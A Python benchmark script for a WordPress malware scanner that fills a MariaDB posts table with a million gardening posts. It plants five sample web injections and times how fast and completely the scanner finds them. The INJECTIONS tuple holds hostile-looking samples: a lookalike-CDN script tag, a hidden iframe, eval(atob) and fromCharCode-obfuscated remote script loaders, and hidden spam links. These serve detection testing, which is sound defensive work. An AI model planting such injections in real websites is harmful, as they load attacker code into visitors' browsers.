"""Time a database scan of a large WordPress posts table, and its memory.

Run from the repository root::

    .venv/bin/python bench/dbscan.py [--rows N] [--batch-size N] [--keep]

Creates ``cleanshift_bench_<random>`` on the MariaDB at 127.0.0.1:3306 (see
``--host``, ``--port``, ``--user``, ``--password``), fills ``wp_posts`` with N
rows of ordinary block-editor posts (default 1,000,000) and a few
injections, scans it with ``scan_wordpress`` and prints rows per second and
the process's peak resident memory; then drops the database. Exit status: 0
when every injection was found and nothing else, 1 otherwise.
"""

from __future__ import annotations

import argparse
import os
import secrets
import sys
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "src"))

import pymysql  # type: ignore[import-untyped, unused-ignore]  # noqa: E402

from cleanshift.dbscan import (  # noqa: E402
    DatabaseCredentials,
    connect_read_only,
    scan_wordpress,
)

POSTS_TABLE = """
CREATE TABLE wp_posts (
    ID bigint(20) unsigned NOT NULL auto_increment,
    post_author bigint(20) unsigned NOT NULL default '0',
    post_date datetime NOT NULL default '0000-00-00 00:00:00',
    post_date_gmt datetime NOT NULL default '0000-00-00 00:00:00',
    post_content longtext NOT NULL,
    post_title text NOT NULL,
    post_excerpt text NOT NULL,
    post_status varchar(20) NOT NULL default 'publish',
    comment_status varchar(20) NOT NULL default 'open',
    ping_status varchar(20) NOT NULL default 'open',
    post_password varchar(255) NOT NULL default '',
    post_name varchar(200) NOT NULL default '',
    to_ping text NOT NULL,
    pinged text NOT NULL,
    post_modified datetime NOT NULL default '0000-00-00 00:00:00',
    post_modified_gmt datetime NOT NULL default '0000-00-00 00:00:00',
    post_content_filtered longtext NOT NULL,
    post_parent bigint(20) unsigned NOT NULL default '0',
    guid varchar(255) NOT NULL default '',
    menu_order int(11) NOT NULL default '0',
    post_type varchar(20) NOT NULL default 'post',
    post_mime_type varchar(100) NOT NULL default '',
    comment_count bigint(20) NOT NULL default '0',
    PRIMARY KEY  (ID),
    KEY post_name (post_name(191)),
    KEY type_status_date (post_type,post_status,post_date,ID),
    KEY post_parent (post_parent),
    KEY post_author (post_author)
) DEFAULT CHARSET=utf8mb4 COLLATE=utf8mb4_unicode_520_ci
"""

# Four kinds of post; the server picks one per row with ELT().
PARAGRAPH = (
    "<!-- wp:paragraph -->\n<p>Tomatoes want six hours of sun and an even watering; "
    'we mulch with straw once the soil has warmed. <a href="https://greenthumb.example'
    '/tag/compost/">More on compost</a>.</p>\n<!-- /wp:paragraph -->\n'
)
TEMPLATES = (
    PARAGRAPH * 3,
    PARAGRAPH
    + '<!-- wp:image {"id":12,"sizeSlug":"large"} -->\n<figure class="wp-block-image '
    'size-large"><img src="https://greenthumb.example/wp-content/uploads/2023/05/'
    'beds-1024x683.jpg" alt="raised beds" class="wp-image-12"/></figure>\n'
    "<!-- /wp:image -->\n" + PARAGRAPH,
    PARAGRAPH
    + '<iframe width="560" height="315" src="https://www.youtube.com/embed/aqz-KE-bpKQ"'
    ' title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; '
    'clipboard-write; encrypted-media; gyroscope; picture-in-picture" allowfullscreen>'
    "</iframe>",
    PARAGRAPH
    + '<blockquote class="twitter-tweet"><p>First ripe tomato!</p>&mdash; Green Thumb '
    '<a href="https://twitter.com/greenthumb/status/1672341">June 24</a></blockquote>'
    '<script async src="https://platform.twitter.com/widgets.js"></script>',
)
INJECTIONS = (
    '<script src="https://cdn-jquery.top/jquery.min.js"></script>',
    '<iframe src="http://203.0.113.9/in.cgi" width="1" height="1"></iframe>',
    "<script>eval(atob('ZG9jdW1lbnQud3JpdGUoMSk='))</script>",
    '<div style="position:absolute;left:-9999px"><a href="https://x.example/">cheap '
    'viagra</a> <a href="https://y.example/">online casino</a></div>',
    "<script>var s=document.createElement('script');s.src=String.fromCharCode(104,116,"
    "116,112,115,58,47,47,120,46,116,111,112);document.head.appendChild(s);</script>",
)


def parse_args(argv: list[str] | None) -> argparse.Namespace:
    """The command line."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("--rows", type=int, default=1_000_000)
    parser.add_argument("--batch-size", type=int, default=500)
    parser.add_argument("--host", default=os.environ.get("MARIADB_HOST", "127.0.0.1"))
    parser.add_argument("--port", type=int, default=3306)
    parser.add_argument("--user", default="root")
    parser.add_argument("--password", default="")
    parser.add_argument("--keep", action="store_true", help="do not drop the database")
    return parser.parse_args(argv)


def fill_posts(cursor: pymysql.cursors.Cursor, rows: int) -> None:
    """Let the server write the rows: from a sequence table, else by doubling."""

    def insert_numbered(numbers: str) -> None:
        # ``numbers`` is a subquery yielding post IDs in a column ``n``.
        cursor.execute(
            "INSERT INTO wp_posts (ID, post_author, post_date, post_date_gmt, "  # noqa: S608
            "post_content, post_title, post_excerpt, post_name, to_ping, pinged, "
            "post_modified, post_modified_gmt, post_content_filtered, guid) "
            "SELECT n, 1 + MOD(n, 5), NOW(), NOW(), CONCAT('<!-- week ', n, ' -->', "
            "ELT(1 + MOD(n, 4), %s, %s, %s, %s)), CONCAT('Diary: week ', n), '', "
            "CONCAT('week-', n), '', '', NOW(), NOW(), '', "
            f"CONCAT('https://greenthumb.example/?p=', n) FROM ({numbers}) numbers",
            TEMPLATES,
        )

    try:
        insert_numbered(f"SELECT seq AS n FROM seq_1_to_{rows}")  # noqa: S608
        return
    except pymysql.MySQLError:
        # MySQL has no sequence engine: start from one row and double.
        insert_numbered("SELECT 1 AS n")
    count = 1
    while count < rows:
        insert_numbered(
            f"SELECT ID + {count} AS n FROM wp_posts WHERE ID <= {rows - count}"  # noqa: S608
        )
        count = min(rows, count * 2)


def peak_memory_mb() -> float:
    """This process's peak resident memory, from Linux's VmHWM."""
    with open("/proc/self/status") as status:
        for line in status:
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) / 1024
    return float("nan")


def main(argv: list[str] | None = None) -> int:
    """Build, scan, report, drop."""
    args = parse_args(argv)
    name = f"cleanshift_bench_{secrets.token_hex(4)}"
    admin = pymysql.connect(
        host=args.host,
        port=args.port,
        user=args.user,
        password=args.password,
        autocommit=True,
        charset="utf8mb4",
    )
    try:
        with admin.cursor() as cursor:
            cursor.execute(f"CREATE DATABASE `{name}` CHARACTER SET utf8mb4")
            cursor.execute(f"USE `{name}`")
            cursor.execute(POSTS_TABLE)
            started = time.monotonic()
            fill_posts(cursor, args.rows)
            step = max(1, args.rows // len(INJECTIONS))
            injected = [
                min(args.rows, 1 + index * step + step // 2)
                for index in range(len(INJECTIONS))
            ]
            for post_id, payload in zip(injected, INJECTIONS, strict=True):
                cursor.execute(
                    "UPDATE wp_posts SET post_content = CONCAT(post_content, %s) "
                    "WHERE ID = %s",
                    (payload, post_id),
                )
            cursor.execute("SELECT SUM(LENGTH(post_content)) FROM wp_posts")
            content_bytes = int(cursor.fetchone()[0] or 0)
            print(
                f"built {args.rows:,} rows ({content_bytes / 2**20:,.0f} MB of post "
                f"content) in {time.monotonic() - started:.1f} s"
            )

        credentials = DatabaseCredentials(
            name, args.user, args.password, args.host, args.port
        )
        connection = connect_read_only(credentials)
        started = time.monotonic()
        report = scan_wordpress(connection, "wp_", batch_size=args.batch_size)
        elapsed = time.monotonic() - started
        connection.close()
    finally:
        if not args.keep:
            with admin.cursor() as cursor:
                cursor.execute(f"DROP DATABASE IF EXISTS `{name}`")
        admin.close()

    found = {finding.location.key.get("ID") for finding in report.findings}
    print(
        f"scanned {report.rows_scanned:,} rows in {elapsed:.1f} s: "
        f"{report.rows_scanned / elapsed:,.0f} rows/s, "
        f"{content_bytes / 2**20 / elapsed:,.1f} MB/s of content"
    )
    print(f"peak memory (VmHWM): {peak_memory_mb():.1f} MB")
    print(
        f"findings: {len(report.findings)} (injected {len(injected)}), "
        f"errors: {len(report.errors)} (the other WordPress tables are absent)"
    )
    return 0 if found == set(injected) and len(report.findings) == len(injected) else 1


if __name__ == "__main__":
    sys.exit(main())
